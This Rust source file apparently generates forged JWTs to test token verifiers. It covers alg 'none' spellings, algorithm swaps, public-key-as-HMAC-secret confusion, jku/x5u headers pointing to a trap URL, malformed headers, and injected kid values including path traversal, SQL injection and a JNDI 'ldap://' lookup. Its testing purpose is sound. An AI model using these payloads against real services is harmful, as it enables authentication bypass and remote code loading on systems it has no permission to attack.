//! Attacks through a token's header.

use base64::Engine;
use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD as BASE64};
use serde_json::{Value, json};

use super::super::keys::{Key, Signer, hs256};
use super::{Target, Tokens, merged};

impl Target<'_> {
    /// `none` in every spelling, and the names of all other algorithms.
    pub(super) fn algorithms(&self) -> Tokens {
        let mut tokens = Tokens::new();
        let unsigned = |header: &Value| {
            let header = BASE64.encode(header.to_string());
            format!("{header}.{}.", BASE64.encode(self.claims().to_string()))
        };
        for alg in ["none", "None", "NONE", "nOnE", "none ", " none", "null", ""] {
            let header = merged(&self.signer.header(), &json!({ "alg": alg }));
            tokens.push((format!("alg {alg:?} without a signature"), unsigned(&header)));
            let signed = self.with_header(&json!({ "alg": alg }));
            tokens.push((format!("alg {alg:?} with a signature"), signed));
        }
        for alg in [
            "HS256",
            "HS384",
            "HS512",
            "RS256",
            "RS384",
            "RS512",
            "PS256",
            "PS384",
            "PS512",
            "ES256",
            "ES384",
            "ES512",
            "ES256K",
            "EdDSA",
            "Ed25519",
            "Ed448",
            "RSA-OAEP",
            "dir",
            "A256GCM",
            "hs256",
            "rs256",
            "eddsa",
            "HS256\u{0}",
            "unknown",
        ] {
            let same = alg == self.signer.algorithm
                || (alg == "Ed25519" && self.signer.algorithm == "EdDSA");
            if !same {
                let token = self.with_header(&json!({ "alg": alg }));
                tokens.push((format!("another alg {alg:?}"), token));
            }
        }
        for alg in [json!(null), json!(256), json!(["HS256"]), json!({"alg": "HS256"}), json!(true)]
        {
            let token = self.with_header(&json!({ "alg": alg }));
            tokens.push((format!("alg {alg}"), token));
        }
        tokens
    }

    /// Public keys used as secrets, and keys of other issuers.
    pub(super) fn confusions(&self) -> Tokens {
        let mut tokens = Tokens::new();
        let jwk = self.signer.jwk();
        let mut secrets = vec![
            ("nothing".to_owned(), Vec::new()),
            ("its key set".to_owned(), json!({ "keys": [jwk] }).to_string().into_bytes()),
            ("its JWK".to_owned(), jwk.to_string().into_bytes()),
        ];
        for part in ["x", "y", "n", "e"] {
            if let Some(text) = jwk[part].as_str() {
                secrets.push((format!("{part} as text"), text.as_bytes().to_vec()));
                secrets.push((format!("{part} as bytes"), BASE64.decode(text).unwrap()));
            }
        }
        if let Key::Ed25519(_) = self.signer.key {
            let mut der = b"\x30\x2a\x30\x05\x06\x03\x2b\x65\x70\x03\x21\x00".to_vec();
            der.extend(BASE64.decode(jwk["x"].as_str().unwrap()).unwrap());
            let pem = format!(
                "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
                BASE64_STANDARD.encode(&der)
            );
            secrets.extend([("its DER".into(), der), ("its PEM".into(), pem.into_bytes())]);
        }
        for (name, secret) in secrets {
            for alg in ["HS256", "HS384", "HS512"] {
                let header = merged(&self.signer.header(), &json!({ "alg": alg }));
                let token = format!(
                    "{}.{}",
                    BASE64.encode(header.to_string()),
                    BASE64.encode(self.claims().to_string())
                );
                let signature = BASE64.encode(hs256(&secret, token.as_bytes()));
                tokens.push((
                    format!("{alg} with {name} for a secret"),
                    format!("{token}.{signature}"),
                ));
            }
        }
        for other in [
            Signer::secret("another secret that is long enough, but not the one"),
            Signer::ed25519(&self.signer.kid),
            Signer::p256(&self.signer.kid),
            Signer::p384(&self.signer.kid),
        ] {
            let name = format!("another's key for {}", other.algorithm);
            tokens.push((name, other.token(&self.claims())));
            let header = json!({"alg": other.algorithm, "jwk": other.jwk(), "kid": other.kid});
            let token = other.token_with(&header, &self.claims());
            tokens.push((format!("a key in the header for {}", other.algorithm), token));
            for member in ["jku", "x5u"] {
                let header = json!({"alg": other.algorithm, "kid": "new", member: self.trap});
                let token = other.token_with(&header, &self.claims());
                tokens.push((format!("{member} for {}", other.algorithm), token));
            }
            let header = json!({"alg": other.algorithm, "x5c": ["MIIB"], "x5t": "AAAA"});
            let token = other.token_with(&header, &self.claims());
            tokens.push((format!("x5c for {}", other.algorithm), token));
        }
        tokens
    }

    pub(super) fn headers(&self) -> Tokens {
        let mut tokens = Tokens::new();
        for change in [
            json!({"crit": ["exp"]}),
            json!({"crit": []}),
            json!({"crit": null}),
            json!({"crit": "b64"}),
            json!({"b64": false, "crit": ["b64"]}),
            json!({"b64": false}),
            json!({"typ": "refresh+jwt"}),
            json!({"typ": "logout+jwt"}),
            json!({"typ": "dpop+jwt"}),
            json!({"typ": "secevent+jwt"}),
            json!({"typ": "JWE"}),
            json!({"typ": ""}),
            json!({"typ": 5}),
            json!({"typ": ["JWT"]}),
        ] {
            tokens.push((format!("header with {change}"), self.with_header(&change)));
        }
        let alg = self.signer.algorithm;
        let kid = &self.signer.kid;
        let payload = self.claims().to_string();
        for (name, header) in [
            ("no header", String::new()),
            ("a header that is an array", format!("[\"{alg}\"]")),
            ("a header that is a string", format!("\"{alg}\"")),
            ("a header that is null", "null".to_owned()),
            ("a header with two algs", format!(r#"{{"alg":"none","alg":"{alg}","kid":"{kid}"}}"#)),
            ("a header with two kids", format!(r#"{{"alg":"{alg}","kid":"a","kid":"{kid}"}}"#)),
            ("a header that is cut", format!(r#"{{"alg":"{alg}""#)),
            ("a header with trailing data", format!(r#"{{"alg":"{alg}","kid":"{kid}"}}{{}}"#)),
            ("a header with a byte order mark", format!("\u{feff}{{\"alg\":\"{alg}\"}}")),
            ("a header that is nested", format!(r#"{{"alg":{}"#, "[".repeat(2000))),
        ] {
            let token = self.signer.token_of(header.as_bytes(), payload.as_bytes());
            tokens.push((name.to_owned(), token));
        }
        let invalid = [b"{\"alg\":\"\xff\"}".as_slice(), b"\xff\xfe", b"\0"];
        for bytes in invalid {
            let token = self.signer.token_of(bytes, payload.as_bytes());
            tokens.push((format!("a header of the bytes {bytes:x?}"), token));
        }
        tokens
    }

    /// A secret has no id, so any string is a valid `kid` for it.
    pub(super) fn key_ids(&self) -> Tokens {
        let mut tokens = Tokens::new();
        for kid in [json!(5), json!(["a"]), json!({"a": 1}), json!(true)] {
            tokens.push((format!("kid {kid}"), self.with_header(&json!({ "kid": kid }))));
        }
        if let Key::Secret(_) = self.signer.key {
            return tokens;
        }
        let own = self.signer.kid.as_str();
        for kid in [
            "unknown",
            "",
            " ",
            "../../../../dev/null",
            "/dev/null",
            "file:///etc/passwd",
            "' OR '1'='1",
            "*",
            ".*",
            "0",
            "\u{0}",
            "kid\u{0}",
            "%00",
            "${jndi:ldap://a}",
            &own.to_uppercase(),
            &format!("{own} "),
            &format!(" {own}"),
            &format!("{own}\u{0}"),
            &"k".repeat(4000),
            self.trap,
        ] {
            if kid == own {
                continue;
            }
            let name: String = kid.chars().take(30).collect();
            tokens.push((format!("kid {name:?}"), self.with_header(&json!({ "kid": kid }))));
        }
        tokens
    }
}
